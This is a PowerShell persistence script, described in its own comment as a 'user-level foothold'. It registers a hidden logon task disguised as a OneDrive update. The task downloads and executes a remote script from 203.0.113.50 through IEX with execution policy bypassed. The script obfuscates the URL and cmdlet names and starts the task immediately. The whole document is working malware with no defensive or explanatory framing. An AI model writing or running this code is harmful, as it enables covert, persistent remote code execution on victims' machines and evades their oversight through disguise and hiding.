# user-level foothold: hidden logon task that re-pulls the implant on every logon
$c = 'ht' + 'tp://203.0.113.50/assets/upd.ps1'
$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-NoP -W Hidden -ExecutionPolicy Bypass -c `"IEX (New-Object Net.WebClient).DownloadString('$c')`""
$t = New-ScheduledTaskTrigger -AtLogOn -User $env:USERNAME
$s = New-ScheduledTaskSettingsSet -Hidden -AllowStartIfOnBatteries
Register-ScheduledTask -TaskName 'OneDrive Standalone Update Task-S-1-5-21' -Action $a -Trigger $t -Settings $s -Force | Out-Null

$o = & ('New-' + 'Obj' + 'ect') -ComObject ('Schedule.' + 'Service')
$o.Connect()
$o.GetFolder('\').GetTask('OneDrive Standalone Update Task-S-1-5-21').Run($null) | Out-Null
